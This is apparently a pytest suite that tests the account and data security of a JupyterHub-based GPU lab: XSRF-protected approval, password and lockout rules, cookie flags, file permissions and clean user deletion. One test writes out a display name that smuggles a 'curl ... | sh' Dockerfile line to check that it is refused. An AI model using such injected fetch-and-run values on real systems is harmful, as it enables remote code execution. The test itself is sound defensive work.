"""Accounts and data (issue 13, item 3), tried as an attacker would on a real hub.

Approval by a GET (a link or an image on a page the admin opens), a POST without
the XSRF token, a 1-character password, guessing a password without end, cookies
without SameSite, world-readable hub files, and a new account that signs up with
a deleted user's name and gets what the deleted user had.
"""

from __future__ import annotations

import json
import os
import stat
import time
from pathlib import Path

import pytest
import requests
from conftest import PREFIX, SECOND_HUB_LOCK_AFTER, SECOND_HUB_LOCK_SECONDS
from hubclient import HubUser
from people import password, share_by_link
from traitlets.config import Config

from gpulab_hub import accounts, hubconfig

pytestmark = [pytest.mark.docker]

LOCK_AFTER, LOCK_SECONDS = SECOND_HUB_LOCK_AFTER, SECOND_HUB_LOCK_SECONDS


@pytest.fixture(scope="module")
def acct_hub(second_hub):
    """A hub other than the session's (users are deleted here; lockout made short), public
    links on; test_public_links.py uses it too (conftest.second_hub)."""
    return second_hub


@pytest.fixture(scope="module")
def admin(acct_hub):
    a = HubUser(acct_hub.url, "admin", acct_hub.admin_password)
    assert a.login().status_code == 302
    a.new_token()
    return a


def signed_up(hub, name: str, pw: str | None = None) -> HubUser:
    user = HubUser(hub.url, name, pw or password(name))
    r = user.signup()
    assert r.status_code == 200 and "has been sent to the admin" in r.text, r.text
    return user


def approved(hub, admin: HubUser, name: str, pw: str | None = None) -> HubUser:
    user = signed_up(hub, name, pw)
    assert admin.authorize(name).status_code == 200
    assert user.login().status_code == 302
    user.new_token()
    return user


def is_approved(user: HubUser) -> bool:
    fresh = HubUser(user.base, user.name, user.password)
    return fresh.login().status_code == 302


def xsrf(user: HubUser) -> str:
    return user.http.cookies.get("_xsrf", path="/hub/")


# --- approval and other changes: POST + XSRF only ------------------------------------
def test_a_get_of_the_approval_url_approves_nobody(acct_hub, admin):
    eve = signed_up(acct_hub, "eve")
    r = admin.http.get(f"{admin.base}/hub/authorize/eve", allow_redirects=False, timeout=10)
    assert r.status_code == 303 and r.headers["Location"].endswith("/hub/authorize#eve")
    r = admin.http.get(f"{admin.base}/hub/discard/eve", allow_redirects=False, timeout=10)
    assert r.status_code == 303
    assert not is_approved(eve)
    assert "eve" in admin.http.get(f"{admin.base}/hub/authorize", timeout=10).text


def test_a_post_without_the_xsrf_token_is_refused(acct_hub, admin):
    fay = signed_up(acct_hub, "fay")
    for path, action in (("authorize/fay", "authorize"), ("discard/fay", "discard")):
        r = admin.http.post(f"{admin.base}/hub/{path}", data={"action": action}, timeout=10)
        assert r.status_code == 403 and "_xsrf" in r.text, r.text
        forged = {"action": action, "_xsrf": "forged"}
        r = admin.http.post(f"{admin.base}/hub/{path}", data=forged, timeout=10)
        assert r.status_code == 403, r.text
    assert not is_approved(fay)
    # Not an admin: refused even with a valid token of their own.
    other = approved(acct_hub, admin, "gus")
    r = other.http.post(
        f"{other.base}/hub/authorize/fay", data={"_xsrf": xsrf(other), "action": "authorize"}
    )
    assert r.status_code == 403
    assert not is_approved(fay)


def test_the_page_forms_approve_unapprove_and_discard(acct_hub, admin):
    hal = signed_up(acct_hub, "hal")
    page = admin.http.get(f"{admin.base}/hub/authorize", timeout=10).text
    assert 'method="post"' in page and 'name="_xsrf"' in page
    assert admin.authorize("hal").status_code == 200
    assert is_approved(hal)
    assert admin.authorize("hal").status_code == 200  # a repeated POST changes nothing
    assert is_approved(hal)
    assert admin.authorize("hal", action="unauthorize").status_code == 200
    assert not is_approved(hal)
    r = admin.http.post(
        f"{admin.base}/hub/discard/hal", data={"_xsrf": xsrf(admin), "action": "discard"}
    )
    assert r.status_code == 200
    assert 'id="hal"' not in r.text
    signed_up(acct_hub, "hal", "a-new-Passw0rd-for-hal")  # the name is free again


# --- passwords and lockout -----------------------------------------------------------
@pytest.mark.parametrize("pw", ["x", "short-pw1", "1234567890", "qwertyuiop"])
def test_short_or_common_passwords_are_refused_at_sign_up(acct_hub, admin, pw):
    name = f"pw{len(pw)}{pw[0]}".replace("-", "")
    user = HubUser(acct_hub.url, name, pw)
    r = user.signup()
    said = "it needs at least 10" if len(pw) < 10 else "one of the most common passwords"
    assert said in r.text and "Something went wrong" not in r.text, r.text
    admin.authorize(name)
    assert user.login().status_code == 403
    assert f'id="{name}"' not in admin.http.get(f"{admin.base}/hub/authorize").text


@pytest.mark.parametrize("name", ["ali\x01ce", "bob\u202egnp", "carl\tx", "dan\x7f", "é" * 3])
def test_user_names_with_control_or_odd_characters_are_refused(acct_hub, admin, name):
    user = HubUser(acct_hub.url, name, "a-good-Passw0rd-here")
    assert "That username is not accepted" in user.signup().text
    assert user.login().status_code == 403


def test_wrong_passwords_lock_the_account_for_a_while(acct_hub, admin):
    ivan = approved(acct_hub, admin, "ivan")
    wrong = HubUser(acct_hub.url, "ivan", "not-ivans-password")
    for _ in range(LOCK_AFTER - 1):
        r = wrong.login()
        assert r.status_code == 403 and "Invalid username or password" in r.text
    r = wrong.login()  # the last one allowed: the page says the account is now locked
    assert r.status_code == 403 and "Too many failed logins for ivan" in r.text
    r = ivan.login()  # the right password, now refused
    assert r.status_code == 403
    assert "Too many failed logins for ivan" in r.text and "Try again after" in r.text, r.text
    assert "seconds more" in r.text
    time.sleep(LOCK_SECONDS + 2.5)
    assert ivan.login().status_code == 302


# --- cookies -------------------------------------------------------------------------
def set_cookies(r: requests.Response) -> list[str]:
    found = []
    for resp in [*r.history, r]:
        found += resp.raw.headers.getlist("Set-Cookie")
    return found


def test_hub_cookies_carry_samesite(acct_hub):
    user = HubUser(acct_hub.url, "admin", acct_hub.admin_password)
    page = user.http.get(f"{user.base}/hub/login", timeout=10)
    r = user.login()
    cookies = set_cookies(page) + set_cookies(r)
    names = {c.split("=", 1)[0] for c in cookies}
    assert {"_xsrf", "jupyterhub-hub-login", "jupyterhub-session-id"} <= names, cookies
    for c in cookies:
        assert "SameSite=Lax" in c, c
        assert "Secure" not in c  # plain http here


def test_cookies_are_secure_behind_https():
    c = Config()
    hubconfig.apply(c, {"GPULAB_PUBLIC_URL": "https://lab.example.org/"}, images_dir="/x")
    opts = c.JupyterHub.tornado_settings.get_value({})["cookie_options"]
    assert opts == {"samesite": "Lax", "secure": True}
    assert c.JupyterHub.public_url == "https://lab.example.org/"
    assert accounts.cookie_options("http://0.0.0.0:8000") == {"samesite": "Lax"}


# --- the hub's files -----------------------------------------------------------------
def loose(root: Path) -> list[str]:
    """Files and folders under ``root`` that group or others may use."""
    found = []
    for top, dirs, files in os.walk(root):
        for name in dirs + files:
            path = Path(top, name)
            st = path.lstat()
            if not stat.S_ISLNK(st.st_mode) and st.st_mode & 0o077:
                found.append(f"{path} {stat.filemode(st.st_mode)}")
    return found


def test_hub_files_are_private_and_fixed_at_start(acct_hub):
    hub_dir = acct_hub.home / "hub"
    assert (hub_dir.stat().st_mode & 0o777) == 0o700
    names = {p.name for p in hub_dir.iterdir()}
    assert {"jupyterhub.sqlite", "jupyterhub_cookie_secret", "hub.log"} <= names, names
    assert loose(hub_dir) == []
    # Files an older version left readable are fixed when gpulab up runs again.
    (hub_dir / "hub.log").chmod(0o644)
    (hub_dir / "old-record.json").write_text("{}")
    (hub_dir / "old-record.json").chmod(0o644)
    assert acct_hub.gpulab("up").returncode == 0
    assert loose(hub_dir) == []
    # The folders containers mount are not made private.
    for folder in (acct_hub.home / "projects", acct_hub.home / "data" / "datasets"):
        assert folder.stat().st_mode & 0o055 == 0o055, folder


# --- deleting users and projects -------------------------------------------------------
WRITE_SECRETS = """
import json, os
open('/workspace/secret.txt', 'w').write('old account')
nb = {'cells': [], 'metadata': {}, 'nbformat': 4, 'nbformat_minor': 5}
open('/workspace/nb.ipynb', 'w').write(json.dumps(nb))
os.makedirs('/cache/huggingface/hub', exist_ok=True)
open('/cache/huggingface/hub/secret.bin', 'w').write('old cache')
print('written')
"""
LIST = (
    "import os; print(sorted(os.listdir('/workspace')), sorted(os.listdir('/cache/huggingface')))"
)


def post_form(user: HubUser, url: str, **form) -> requests.Response:
    return user.http.post(user.base + url, data={"_xsrf": xsrf(user), **form}, timeout=30)


def containers_of(docker_engine, owner: str) -> list:
    label = [f"gpulab.instance={PREFIX}acct", f"gpulab.owner={owner}"]
    return docker_engine.call("containers", all=True, filters={"label": label})


def volumes(docker_engine) -> set[str]:
    return {v["Name"] for v in docker_engine.call("volumes").get("Volumes") or []}


def test_a_deleted_user_leaves_nothing_to_the_next_account_of_that_name(
    acct_hub, admin, docker_engine
):
    hub_dir, projects = acct_hub.home / "hub", acct_hub.home / "projects"
    old = approved(acct_hub, admin, "judy")
    kim = approved(acct_hub, admin, "kim")
    assert admin.api("POST", "/hub/api/groups/team", json={"users": ["kim"]}).status_code == 201
    old.start_project("proj")
    assert "written" in old.execute("proj", WRITE_SECRETS)
    # Shares of every kind, the owner's sharing settings and a public link.
    share_by_link(old, "proj", kim, "viewer")
    assert post_form(old, "/hub/gpulab/share/proj", action="group", name="team").ok
    assert post_form(
        old, "/hub/gpulab/share/proj", action="settings", allow="collaborators_may_start"
    ).ok
    made = post_form(
        old, "/hub/gpulab/public-links/proj", action="create", path="nb.ipynb", hours="2"
    )
    code = made.text.split("/hub/gpulab/p/", 1)[1].split('"', 1)[0]
    assert old.http.get(f"{old.base}/hub/gpulab/p/{code}").status_code == 200
    assert (hub_dir / "projects" / "judy" / "proj" / "image.json").exists()
    assert "judy/proj" in (hub_dir / "group-share-roles.json").read_text()
    assert "gpulab-group-share-" in admin.api("GET", "/hub/api/groups/team").text
    volume = f"{PREFIX}acct-hf-judy"  # the per-user cache of data_scope "user": never made
    assert volume not in volumes(docker_engine)
    cache = acct_hub.home / "data" / "projects" / "judy" / "proj" / "huggingface"
    assert (cache / "hub" / "secret.bin").read_text() == "old cache"  # the project's own
    assert len(kim.api("GET", "/hub/api/users/kim/shared").json()["items"]) == 2

    # The admin deletes judy while her project runs: it completes.
    r = admin.api("DELETE", "/hub/api/users/judy", params={"confirm": "judy"})
    assert r.status_code == 204, r.text
    assert admin.api("GET", "/hub/api/users/judy").status_code == 404
    assert containers_of(docker_engine, "judy") == []
    assert volume not in volumes(docker_engine)
    assert not (projects / "judy").exists()
    assert not (hub_dir / "projects" / "judy").exists()
    archived = list((hub_dir / "deleted").glob("judy-*/projects/proj/secret.txt"))
    assert len(archived) == 1 and archived[0].read_text() == "old account"
    assert not (acct_hub.home / "data" / "projects" / "judy").exists()
    assert list((hub_dir / "deleted").glob("judy-*/data/projects/proj/huggingface/hub"))
    assert (hub_dir / "deleted").stat().st_mode & 0o777 == 0o700
    for record in ("sharing.json", "public-links.json", "group-share-roles.json"):
        path = hub_dir / record
        assert not path.exists() or "judy" not in path.read_text(), record
    team = admin.api("GET", "/hub/api/groups/team")
    assert team.ok and "gpulab-group-share-" not in team.text, team.text
    assert kim.api("GET", "/hub/api/users/kim/shared").json()["items"] == []
    assert requests.get(f"{acct_hub.url}/hub/gpulab/p/{code}", timeout=10).status_code == 404

    # A new judy, approved, starts a project of the same name: it is empty.
    new = approved(acct_hub, admin, "judy", "a-new-Passw0rd-for-judy")
    assert not (hub_dir / "projects" / "judy").exists()  # no earlier image to start
    form = new.http.get(f"{new.base}/hub/spawn/judy/proj", timeout=30)
    assert "last image that built" not in form.text
    new.start_project("proj")
    assert new.execute("proj", LIST).strip() == "['Dockerfile'] []"
    state = json.loads((hub_dir / "projects" / "judy" / "proj" / "image.json").read_text())
    assert state["last_good"]["built_at"] > archived[0].stat().st_mtime
    assert kim.api("GET", "/hub/api/users/kim/shared").json()["items"] == []
    assert kim.api("GET", "/user/judy/proj/api/contents").status_code in (403, 404)
    new.stop_project("proj")


def test_unapproving_an_account_stops_its_projects_and_keeps_their_files(
    acct_hub, admin, docker_engine
):
    """Its sessions and tokens end too (tests/fast/test_fast_unapprove.py shows each);
    here, what only a running project shows: stopped at once, its folder kept."""
    uma = approved(acct_hub, admin, "uma")
    uma.start_project("work")
    label = [f"gpulab.instance={PREFIX}acct", "gpulab.owner=uma"]
    assert len(docker_engine.call("containers", filters={"label": label})) == 1
    assert admin.authorize("uma", action="unauthorize").status_code == 200
    assert docker_engine.call("containers", filters={"label": label}) == []  # none running
    assert (acct_hub.home / "projects" / "uma" / "work" / "Dockerfile").is_file()
    assert uma.api("POST", "/hub/api/users/uma/servers/work", json={}).status_code == 403
    assert admin.api("GET", "/hub/api/users/uma").json()["servers"] == {}


def test_a_deleted_project_leaves_nothing_to_the_next_of_that_name(acct_hub, admin):
    hub_dir = acct_hub.home / "hub"
    lee = approved(acct_hub, admin, "lee")
    lee.start_project("lab")
    assert "written" in lee.execute("lab", WRITE_SECRETS)
    r = lee.api("DELETE", "/hub/api/users/lee/servers/lab", json={"remove": True})
    assert r.status_code in (202, 204), r.text
    deadline = time.monotonic() + 120
    # A stopped server leaves "servers" before its deletion ends: ask for stopped ones too.
    everything = "/hub/api/users/lee?include_stopped_servers=1"
    while "lab" in lee.api("GET", everything).json()["servers"]:
        assert time.monotonic() < deadline, "the project was not deleted"
        time.sleep(0.5)
    assert not (acct_hub.home / "projects" / "lee" / "lab").exists()
    assert not (hub_dir / "projects" / "lee" / "lab").exists()
    assert list((hub_dir / "deleted").glob("lee-*/projects/lab/secret.txt"))
    # The project's data and cache went with it (data_scope "project").
    assert not (acct_hub.home / "data" / "projects" / "lee" / "lab").exists()
    assert list((hub_dir / "deleted").glob("lee-*/data/projects/lab/huggingface/hub/secret.bin"))
    lee.start_project("lab")
    assert lee.execute("lab", LIST).strip() == "['Dockerfile'] []"
    lee.stop_project("lab")


class FakeDocker:
    """The two Docker calls user deletion makes, recorded."""

    def __init__(self):
        self.removed: list[str] = []

    def containers(self, all, filters):  # noqa: A002 (docker-py's name)
        return [{"Id": "c1", "Names": ["/x-judy-proj"]}]

    def remove_container(self, cid, force, v):
        self.removed.append(cid)

    def remove_volume(self, name, force):
        self.removed.append(name)


@pytest.mark.parametrize("archive", [True, False])
def test_user_deletion_takes_every_record_away(tmp_path, archive):
    """Without a hub: folders, records and GPU holdings of one user go, others' stay."""
    from gpulab_hub.gpus import allocator
    from gpulab_hub.sharing import public
    from gpulab_hub.workflows import deletion

    # (the records of the hub's database, sharing settings among them, go with the
    # user's row: test_project_records.py)
    hub = tmp_path / "hub"
    place = deletion.Place(
        projects_root=tmp_path / "projects",
        state_root=hub / "projects",
        data_root=tmp_path / "data",
        hub_dir=hub,
        archive=archive,
        allocations_file=hub / "gpu-allocations.json",
        prefix="x",
        hf_volume="x-hf-judy",
    )
    for owner in ("judy", "kim"):
        (place.projects_root / owner / "proj").mkdir(parents=True)
        (place.state_root / owner / "proj").mkdir(parents=True)
        (place.data_root / "models" / owner).mkdir(parents=True)
        (place.data_root / "projects" / owner / "proj" / "huggingface").mkdir(parents=True)
        public.store(hub).create(owner, "proj", "nb.ipynb", 3600)
    (place.projects_root / "judy" / "proj" / "secret.txt").write_text("old")
    held = {"uuid-1": [{"owner": "judy", "project": "proj", "since": 1.0}],
            "uuid-2": [{"owner": "kim", "project": "proj", "since": 1.0}]}  # fmt: skip
    place.allocations_file.write_text(json.dumps({"version": 1, "holdings": held}))

    client = FakeDocker()
    done = deletion.user_files(place, client, "judy")
    assert client.removed == ["c1", "x-hf-judy"], done
    for gone in (place.projects_root / "judy", place.state_root / "judy"):
        assert not gone.exists()
    assert not (place.data_root / "models" / "judy").exists()
    assert not (place.data_root / "projects" / "judy").exists()
    assert (place.data_root / "projects" / "kim" / "proj" / "huggingface").is_dir()
    assert (place.projects_root / "kim" / "proj").is_dir()
    assert "judy" not in (hub / "public-links.json").read_text()
    assert "kim" in (hub / "public-links.json").read_text()
    holdings = allocator.AllocationStore(place.allocations_file).holdings()
    assert list(holdings) == ["uuid-2"]
    kept = list((hub / "deleted").glob("judy-*/projects/proj/secret.txt"))
    assert len(kept) == (1 if archive else 0)
    if archive:
        assert list((hub / "deleted").glob("judy-*/data/models"))
        assert list((hub / "deleted").glob("judy-*/data/projects/proj/huggingface"))
        assert (hub / "deleted").stat().st_mode & 0o777 == 0o700


def test_a_display_name_with_a_newline_is_refused_at_start_and_forgotten(acct_hub, admin):
    """JupyterHub 6.1 checks display names of new servers only: a rename stores one
    unchecked; the start refuses it, resets it, and writes no Dockerfile from it."""
    mo = approved(acct_hub, admin, "mo")
    r = mo.api("PUT", "/hub/api/users/mo/servers/nl", json={"display_name": "fine"})
    assert r.status_code == 201, r.text
    evil = "x\nRUN curl http://127.0.0.1:9/evil | sh"
    r = mo.api("PATCH", "/hub/api/users/mo/servers/nl", json={"display_name": evil})
    assert r.status_code == 200, r.text
    r = mo.api("POST", "/hub/api/users/mo/servers/nl", json={})
    deadline = time.monotonic() + 60
    while mo.api("GET", "/hub/api/users/mo").json()["servers"].get("nl", {}).get("pending"):
        assert time.monotonic() < deadline
        time.sleep(0.5)
    events = mo.progress_events("nl") if r.status_code == 202 else []
    said = r.text + json.dumps(events)
    assert "display name" in said and "was refused" in said, said
    server = mo.api("GET", "/hub/api/users/mo/servers/nl").json()
    assert server["display_name"] == "nl"
    assert not (acct_hub.home / "projects" / "mo" / "nl" / "Dockerfile").exists()
